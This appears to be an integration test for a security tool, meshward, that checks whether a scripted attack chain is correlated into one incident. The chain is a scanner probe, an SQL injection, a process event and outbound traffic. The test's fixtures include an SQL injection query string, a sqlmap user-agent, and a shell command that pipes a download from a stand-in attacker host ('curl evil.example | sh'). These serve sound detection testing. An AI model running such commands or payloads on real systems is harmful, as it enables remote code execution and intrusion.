// A scripted attack chain end to end: a probe and an exploit attempt through `meshward proxy`
// (the filter's own detection), then the host agent's process and egress events over the agent
// stream (meshward.v1.AgentEvents; the agent is not built yet, so the test speaks for it). They
// become one incident with four ordered steps and their tactics, shown by `meshward incidents`.
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { UpstreamApp } from '../support/upstream-app.js';
import { AgentEventsClient } from '../support/agent-events-client.js';
import { request, startCpHarness, waitForStored, waitUntilAsync, type CpHarness, type Sidecar } from '../support/control-plane-harness.js';

const POLICY = `apiVersion: meshward.io/v1alpha1
kind: SecurityPolicy
metadata: {name: orders, namespace: shop}
spec:
  selector: {workloads: [orders]}
  mode: protect
  ingress:
    - name: reads
      http: [{methods: [GET], paths: ["/api/**", "/admin"]}]
`;

const agentEvent = (over: Record<string, unknown>) => ({
  id: `agt-${Math.random().toString(16).slice(2)}`,
  time: new Date().toISOString(),
  severity: 'high',
  action: 'alert',
  mode: 'monitor',
  workload: { namespace: 'shop', name: 'orders', pod: 'orders-1', container: 'app' },
  ...over,
});

describe('incidents: probe → exploit → process → egress is one incident', { timeout: 60_000 }, () => {
  let h: CpHarness;
  let app: UpstreamApp;
  let orders: Sidecar;
  let agent: AgentEventsClient;

  before(async () => {
    app = await new UpstreamApp().start();
    h = await startCpHarness({
      inventory: 'workloads:\n  - {namespace: shop, name: orders, pods: [{name: orders-1, node: node-a}]}\n  - {namespace: shop, name: payments, pods: [{name: payments-1, node: node-b}]}\n',
      policies: { 'orders.yaml': POLICY },
      options: { events: { agentEvents: { host: '127.0.0.1', port: 0 } } },
    });
    orders = await h.sidecar({ namespace: 'shop', name: 'orders', upstream: app.url, peers: '- {ip: 127.0.0.4}\n' });
    agent = new AgentEventsClient(h.cp.agentEvents!.address, 'node-a', h.cp.ingestAuth.nodeToken('node-a'));
  });
  after(async () => {
    agent.close();
    await h.close();
    await app.close();
  });

  it('the probe and the exploit attempt are stored as attacks with their tactics', async () => {
    assert.equal((await request(`${orders.url}/admin`, { from: '127.0.0.4', headers: { 'user-agent': 'sqlmap/1.7.2#stable (https://sqlmap.org)' } })).status, 403);
    assert.equal((await request(`${orders.url}/api/search?name=1'%20OR%20'1'%3D'1`, { from: '127.0.0.4' })).status, 403);
    const probe = await waitForStored(h, (e) => (e.attack as { tactic?: string } | null)?.tactic === 'reconnaissance', 'the probe');
    const exploit = await waitForStored(h, (e) => (e.attack as { tactic?: string } | null)?.tactic === 'initial-access', 'the exploit attempt');
    assert.equal((probe.source as { ip: string }).ip, '127.0.0.4');
    assert.equal((exploit.attack as { class: string }).class, 'sqli');
  });

  it('the agent stream stores the process and egress events, rejecting one for a workload not on its node', async () => {
    const ack = await agent.send([
      agentEvent({ kind: 'process.exec', process: { pid: 4242, ppid: 1, exe: '/bin/sh', args: ['-c', 'curl evil.example | sh'] } }),
      agentEvent({ kind: 'process.exec', workload: { namespace: 'shop', name: 'payments' }, process: { pid: 1, exe: '/bin/true' } }),
      'not json',
    ]);
    assert.equal(ack.status, 'STORED');
    assert.equal(ack.accepted, 1);
    assert.deepEqual(ack.rejected.map((r) => [r.index, r.rule]), [[1, 'not-authorized'], [2, 'type']]);
    const egress = await agent.send([agentEvent({ kind: 'net.egress', time: new Date(Date.now() + 5).toISOString(), process: { pid: 4243, ppid: 4242, exe: '/usr/bin/curl' }, destination: { ip: '203.0.113.7', port: 4444, fqdn: 'evil.example' }, protocol: 'tcp' })]);
    assert.equal(egress.status, 'STORED');
    assert.equal(egress.accepted, 1);
  });

  it('`meshward incidents` shows one incident whose chain rises to critical with four ordered steps', async () => {
    let incidents: Array<{ id: string; severity: string; tactics: string[]; steps: Array<{ tactic: string; name: string; firstMs: number }> }> = [];
    await waitUntilAsync(async () => {
      const r = await h.cli(['incidents', '--json']);
      incidents = r.stdout.trim() ? r.stdout.trim().split('\n').map((l) => JSON.parse(l) as (typeof incidents)[number]) : [];
      return incidents.length === 1 && incidents[0].steps.length === 4;
    }, 'one incident with four steps');
    const [i] = incidents;
    assert.deepEqual(i.steps.map((s) => s.tactic), ['reconnaissance', 'initial-access', 'execution', 'command-and-control']);
    assert.deepEqual(i.tactics, ['reconnaissance', 'initial-access', 'execution', 'command-and-control']);
    assert.equal(i.severity, 'critical');
    assert.ok(i.steps.every((s, n) => n === 0 || s.firstMs >= i.steps[n - 1].firstMs));
    const shown = await h.cli(['incidents', 'show', i.id]);
    assert.equal(shown.code, 0, shown.stderr);
    assert.match(shown.stdout, /1\s+\S+ \S+\s+reconnaissance\s+T1595/);
    assert.match(shown.stdout, /4\s+\S+ \S+\s+command-and-control\s+T1071\s+egress to a new destination evil\.example/);
    const linked = await h.cli(['events', '--incident', i.id, '--json']);
    assert.equal(linked.stdout.trim().split('\n').length, 4);
  });

  it('a stream without a valid node token is refused', async () => {
    const rogue = new AgentEventsClient(h.cp.agentEvents!.address, 'node-a', 'mw1.forged');
    const status = await rogue.ended;
    assert.equal(status.code, 16); // UNAUTHENTICATED
    rogue.close();
  });
});
